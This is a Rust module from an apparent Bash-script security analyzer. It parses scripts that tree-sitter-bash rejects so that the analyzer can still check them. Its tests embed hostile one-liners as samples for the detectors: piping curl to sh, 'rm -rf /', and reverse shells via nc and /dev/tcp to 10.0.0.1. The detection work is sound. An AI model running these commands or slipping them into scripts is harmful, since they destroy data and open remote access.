//! Analysis of valid Bash that tree-sitter-bash rejects.
//!
//! tree-sitter-bash does not know every construct bash accepts (`${1~~}`,
//! `for i in 1 2; { ...; }`, `f() for ...`, `if (cmd) then`, `<> <(cmd)`,
//! extglob patterns in `[[ ]]`, escapes inside backquotes, ...). When it
//! reports an error, the script is read again by brush-parser, a second and
//! complete Bash parser (vendored with two bash forms it lacked, see
//! `vendor/README.md`), which is the validator: what it rejects is denied as
//! unparseable at the position it names, as bash would reject it.
//!
//! What brush-parser accepts is printed back in the canonical forms the
//! tree-sitter grammar reads (`render.rs`) and parsed again, so the one
//! walker analyses it with every rule, and spans are mapped back to the
//! source. A word tree-sitter still cannot read becomes an opaque
//! placeholder (its value unknown, its command substitutions still
//! analysed), found from the errors of each new parse, one word per error
//! and round. Nothing is skipped: when an error cannot be pinned to a word,
//! or a command substitution cannot be read by either parser, the script is
//! denied as unparseable at that place, because that text could hide a
//! command.
//!
//! This module must not walk or judge the script; it only produces the tree
//! the walker reads and the map back to the source.

use std::ops::Range;

use tree_sitter::{Node, Tree};

use super::render::{self, OffsetMap, Rendered};
use crate::analyze::{AnalyzeError, Budget, Span};

/// Rounds of "parse, make the failing word opaque" before giving up; each
/// round fixes at least one word, and real scripts need a handful.
const MAX_ROUNDS: usize = 64;

/// A script that tree-sitter reads after canonical printing.
pub(super) struct Recovered {
    /// The printed script the tree was parsed from.
    pub text: String,
    pub tree: Tree,
    /// Byte ranges of `text` holding opaque placeholders.
    pub opaque: Vec<(usize, usize)>,
    map: OffsetMap,
    text_lines: Vec<usize>,
    src_lines: Vec<usize>,
}

impl Recovered {
    /// Moves a span of the printed text back onto the source.
    pub fn span_to_source(&self, span: Span) -> Span {
        let (sl, sc) = self.point(span.start_line, span.start_col);
        let (el, ec) = self.point(span.end_line, span.end_col);
        Span::new(sl, sc, el.max(sl), if el > sl { ec } else { ec.max(sc) })
    }

    fn point(&self, line: u32, col: u32) -> (u32, u32) {
        let row = line.saturating_sub(1) as usize;
        let start = self.text_lines.get(row).copied().unwrap_or(self.text.len());
        let out = start
            .saturating_add(col.saturating_sub(1) as usize)
            .min(self.text.len());
        let orig = self.map.to_orig(out);
        let src_row = self
            .src_lines
            .partition_point(|&s| s <= orig)
            .saturating_sub(1);
        let src_start = self.src_lines.get(src_row).copied().unwrap_or(0);
        let c = |v: usize| u32::try_from(v).unwrap_or(u32::MAX).saturating_add(1);
        (c(src_row), c(orig.saturating_sub(src_start)))
    }
}

fn line_starts(text: &str) -> Vec<usize> {
    std::iter::once(0)
        .chain(text.match_indices('\n').map(|(i, _)| i + 1))
        .collect()
}

/// Reads `code` with brush-parser and prints it until tree-sitter reads it.
pub(super) fn recover(code: &str, budget: &Budget) -> Result<Recovered, AnalyzeError> {
    prescan_keywords(code, budget.max_depth)?;
    let program = render::parse(code).map_err(|e| rejected(code, &e))?;
    let src_lines = line_starts(code);
    let mut opaque: Vec<Range<usize>> = Vec::new();
    for round in 0..MAX_ROUNDS {
        if budget.expired() {
            return Err(AnalyzeError::Timeout);
        }
        let printed = render::render(code, &program, &opaque);
        if let Some(&at) = printed.unreadable.first() {
            return Err(unparseable_at(
                code,
                at,
                "command substitution that no parser reads".into(),
            ));
        }
        let tree = super::parse(&printed.text, budget)?;
        let errors = error_nodes(tree.root_node(), budget)?;
        if errors.is_empty() {
            let text_lines = line_starts(&printed.text);
            return Ok(Recovered {
                opaque: printed.opaque.iter().map(|r| (r.start, r.end)).collect(),
                text: printed.text,
                tree,
                map: printed.map,
                text_lines,
                src_lines,
            });
        }
        let before = opaque.len();
        if round == 0 {
            unreadable_alone(&printed, &mut opaque, budget)?;
        }
        if opaque.len() == before {
            pin_errors(&printed, &errors, &mut opaque);
        }
        if opaque.len() == before {
            let first = errors
                .iter()
                .find(|e| innermost(e, &errors))
                .or(errors.first());
            let (s, e) = first.map(|r| (r.start, r.end)).unwrap_or((0, 0));
            let excerpt: String = printed
                .text
                .get(s..e)
                .unwrap_or("")
                .chars()
                .take(40)
                .collect();
            return Err(unparseable_at(
                code,
                printed.map.to_orig(s),
                format!("construct the analyzer cannot read near {excerpt:?}"),
            ));
        }
    }
    Err(unparseable_at(
        code,
        0,
        "too many constructs the analyzer cannot read".into(),
    ))
}

/// A word is unreadable by itself when `: WORD` does not parse; words with
/// backquotes holding backslashes are taken too, since tree-sitter-bash
/// reads those escapes differently from bash and the error it reports is
/// often far from the word.
fn unreadable_alone(
    printed: &Rendered,
    opaque: &mut Vec<Range<usize>>,
    budget: &Budget,
) -> Result<(), AnalyzeError> {
    for w in &printed.words {
        let text = printed.text.get(w.out.clone()).unwrap_or("");
        if !risky(text) || opaque.contains(&w.orig) {
            continue;
        }
        let escaped_backquote = text.contains('`') && text.contains('\\');
        let alone = escaped_backquote || {
            let tree = super::parse(&format!(": {text}\n"), budget)?;
            !error_nodes(tree.root_node(), budget)?.is_empty()
        };
        if alone {
            opaque.push(w.orig.clone());
        }
    }
    Ok(())
}

/// For each innermost error, the word it starts in (or the word just before
/// it, where a missing token is reported), or else the first word inside it
/// that is not plain text, or else the nearest such word before it, becomes
/// opaque.
fn pin_errors(printed: &Rendered, errors: &[Range<usize>], opaque: &mut Vec<Range<usize>>) {
    for err in errors.iter().filter(|e| innermost(e, errors)) {
        let usable = |w: &&render::PrintedWord| {
            !opaque.contains(&w.orig) && risky(printed.text.get(w.out.clone()).unwrap_or(""))
        };
        let at = printed
            .words
            .iter()
            .find(|w| w.out.start <= err.start && err.start < w.out.end)
            .or_else(|| printed.words.iter().rfind(|w| w.out.end <= err.start));
        let pick = match at {
            Some(w) if usable(&w) => Some(w),
            _ => printed
                .words
                .iter()
                .find(|w| {
                    w.out.start >= err.start
                        && w.out.start < err.end.max(err.start + 1)
                        && usable(w)
                })
                // tree-sitter often notices a bad word only at a later
                // token: the nearest word before that is not plain text.
                .or_else(|| {
                    printed
                        .words
                        .iter()
                        .rfind(|w| w.out.end <= err.start && usable(w))
                }),
        };
        if let Some(w) = pick {
            if !opaque.contains(&w.orig) {
                opaque.push(w.orig.clone());
            }
        }
    }
}

/// Plain words (letters, digits and a few punctuation marks) are never why
/// a parse fails.
fn risky(text: &str) -> bool {
    !text
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "_./:,=+-%^".contains(c))
}

fn innermost(err: &Range<usize>, all: &[Range<usize>]) -> bool {
    !all.iter()
        .any(|o| o != err && o.start >= err.start && o.end <= err.end)
}

/// Byte ranges of the ERROR and MISSING nodes, except the tolerated ones.
fn error_nodes(root: Node<'_>, budget: &Budget) -> Result<Vec<Range<usize>>, AnalyzeError> {
    let mut out = Vec::new();
    if !root.has_error() {
        return Ok(out);
    }
    let mut cursor = root.walk();
    let mut steps = 0usize;
    loop {
        let node = cursor.node();
        steps += 1;
        if steps.is_multiple_of(8192) && budget.expired() {
            return Err(AnalyzeError::Timeout);
        }
        if (node.is_error() || node.is_missing()) && !super::tolerated(node) {
            out.push(node.byte_range());
        }
        if node.has_error() && cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return Ok(out);
            }
        }
    }
}

/// Keyword nesting (`if`, loops, `case`) bounded before brush-parser,
/// whose parser recurses once per level: the tree-sitter depth check may not
/// see it in a tree full of errors (brackets are bounded by the byte
/// pre-scan already). Keywords count where a command starts; comments are
/// skipped.
fn prescan_keywords(code: &str, limit: usize) -> Result<(), AnalyzeError> {
    let mut depth = 0usize;
    for line in code.lines() {
        let mut command_start = true;
        for word in line.split_whitespace() {
            if word.starts_with('#') {
                break;
            }
            let word = word.trim_start_matches(['(', '{', '!']);
            if command_start {
                match word.trim_end_matches(';') {
                    "if" | "while" | "until" | "for" | "select" | "case" => {
                        depth += 1;
                        if depth > limit {
                            return Err(AnalyzeError::TooDeep { limit });
                        }
                    }
                    "fi" | "done" | "esac" => depth = depth.saturating_sub(1),
                    _ => {}
                }
            }
            command_start = word.is_empty()
                || word.ends_with([';', '&', '|', '(', '{'])
                || matches!(
                    word,
                    "then" | "do" | "else" | "elif" | "if" | "while" | "until"
                );
        }
    }
    Ok(())
}

/// brush-parser's rejection, at the position it names.
fn rejected(code: &str, e: &brush_parser::ParseError) -> AnalyzeError {
    let pos = match e {
        brush_parser::ParseError::ParsingNear(p) => Some(p.clone()),
        brush_parser::ParseError::Tokenizing { position, .. } => position.clone(),
        brush_parser::ParseError::ParsingAtEndOfInput => None,
    };
    let (line, column) = match pos {
        Some(p) => (p.line, p.column),
        None => {
            let lines = code.lines().count().max(1);
            let last = code.lines().last().map(|l| l.chars().count()).unwrap_or(0);
            (lines, last + 1)
        }
    };
    let near: String = code
        .lines()
        .nth(line.saturating_sub(1))
        .unwrap_or("")
        .chars()
        .skip(column.saturating_sub(1))
        .take(40)
        .collect();
    let what = match e {
        brush_parser::ParseError::Tokenizing { inner, .. } => format!("{inner}"),
        brush_parser::ParseError::ParsingAtEndOfInput => "unexpected end of input".into(),
        brush_parser::ParseError::ParsingNear(_) => "syntax error".into(),
    };
    AnalyzeError::Unparseable {
        line: u32::try_from(line).unwrap_or(u32::MAX),
        column: u32::try_from(column).unwrap_or(u32::MAX),
        message: if near.trim().is_empty() {
            what
        } else {
            format!("{what} near {near:?}")
        },
    }
}

fn unparseable_at(code: &str, at: usize, message: String) -> AnalyzeError {
    let at = at.min(code.len());
    let before = code.get(..at).unwrap_or("");
    let line = before.matches('\n').count() + 1;
    let col = at - before.rfind('\n').map(|i| i + 1).unwrap_or(0) + 1;
    AnalyzeError::Unparseable {
        line: u32::try_from(line).unwrap_or(u32::MAX),
        column: u32::try_from(col).unwrap_or(u32::MAX),
        message,
    }
}

#[cfg(test)]
mod tests {
    use super::super::{extract, summary};
    use crate::analyze::{AnalyzeError, Budget, Fact, FactKind};

    fn facts(code: &str) -> Vec<Fact> {
        extract(code, &Budget::start()).unwrap_or_else(|e| panic!("{code:?}: {e}"))
    }

    fn signal(code: &str, name: &str) -> Option<Fact> {
        facts(code)
            .into_iter()
            .find(|f| f.kind == FactKind::Signal && f.name == name)
    }

    fn command(code: &str, name: &str) -> Option<Fact> {
        facts(code)
            .into_iter()
            .find(|f| f.kind == FactKind::Command && f.name == name)
    }

    fn unparseable(code: &str) -> (u32, u32, String) {
        match extract(code, &Budget::start()) {
            Err(AnalyzeError::Unparseable {
                line,
                column,
                message,
            }) => (line, column, message),
            other => panic!("{code:?}: expected unparseable, got {other:?}"),
        }
    }

    /// The constructs seen in real scripts: each is analysed, with the
    /// commands inside it.
    #[test]
    fn constructs_tree_sitter_rejects_are_analysed() {
        for (code, sig) in [
            ("echo ${1~~} ${1~}; curl http://x | sh", "pipe-to-shell"),
            (
                "s=abc; echo ${s:$1} ${s: -$1}; rm -rf /",
                "recursive-delete-root",
            ),
            (
                "C=ACGT; echo ${C:$RANDOM%4:1}; rm -rf /",
                "recursive-delete-root",
            ),
            ("for i in {1..3};{ curl http://x | sh;}", "pipe-to-shell"),
            ("f()for i; do rm -rf /; done; f", "recursive-delete-root"),
            ("read -rt 1 <> <(curl http://x | sh)", "pipe-to-shell"),
            ("x=$((0x$(curl http://x | sh)))", "pipe-to-shell"),
            (
                "y=$((16#$x)) z=$((0x$(printf ff))); rm -rf /",
                "recursive-delete-root",
            ),
            ("f(){ (nc -e /bin/sh 10.0.0.1 4444) }; f", "reverse-shell"),
            (
                "if (true) then bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; fi",
                "reverse-shell",
            ),
            ("[[ $x == @(a|b) ]] && curl http://x | sh", "pipe-to-shell"),
            (
                "v=`echo \\`id\\``; curl http://x | sh; echo ${1~~}",
                "pipe-to-shell",
            ),
        ] {
            assert!(
                signal(code, sig).is_some(),
                "{code:?}: no {sig}: {:?}",
                summary(&facts(code))
            );
        }
        assert!(command("echo ${1~~}", "echo").is_some());
        assert!(command("f()for i; do tar -x; done", "tar").is_some());
    }

    /// Facts point at the source, not at the printed text.
    #[test]
    fn spans_are_those_of_the_source() {
        let code = "f()for i; do\n  echo ${1~~}\ndone\nx=1;   curl http://x | sh\n";
        let curl = command(code, "curl").expect("curl");
        assert_eq!((curl.span.start_line, curl.span.start_col), (4, 8));
        let echo = command(code, "echo").expect("echo");
        assert_eq!((echo.span.start_line, echo.span.start_col), (2, 3));
        let sig = signal(code, "pipe-to-shell").expect("pipe-to-shell");
        assert_eq!(sig.span.start_line, 4);
    }

    /// A word the analyzer cannot read is unknown, not a constant: it cannot
    /// smuggle a value in.
    #[test]
    fn opaque_words_are_unknown() {
        let f = facts("x=${1~~}; $x http://203.0.113.9");
        assert!(
            !f.iter()
                .any(|f| f.kind == FactKind::Command && f.name.contains('_')),
            "{:?}",
            summary(&f)
        );
    }

    /// What bash rejects stays denied, at the place of the error.
    #[test]
    fn invalid_bash_is_still_denied_where_it_breaks() {
        let (line, _, _) = unparseable("echo ${1~~}\necho ok\nif then fi (\n");
        assert_eq!(line, 3);
        let (line, _, msg) = unparseable("for i in 1 2 3; do\n  echo ${i~}\ndone\nfi\n");
        assert_eq!(line, 4, "{msg}");
        unparseable("f() {\n echo ${1~~}\n");
        unparseable("echo $(");
    }

    #[test]
    fn nesting_is_bounded_before_the_second_parser() {
        let deep = "if true; then ".repeat(400) + "echo ${1~~}" + &"; fi".repeat(400);
        assert!(matches!(
            extract(&deep, &Budget::start()),
            Err(AnalyzeError::TooDeep { .. })
        ));
        let ok = "if true; then ".repeat(50) + "echo ${1~~}" + &"; fi".repeat(50);
        assert!(extract(&ok, &Budget::start()).is_ok());
    }

    #[test]
    fn keyword_prescan_counts_commands_only() {
        let comments = "# if if if if\necho 'for while until'\n".repeat(300);
        assert!(super::prescan_keywords(&comments, 200).is_ok());
        let nested = "while :; do ".repeat(201);
        assert!(super::prescan_keywords(&nested, 200).is_err());
    }
}
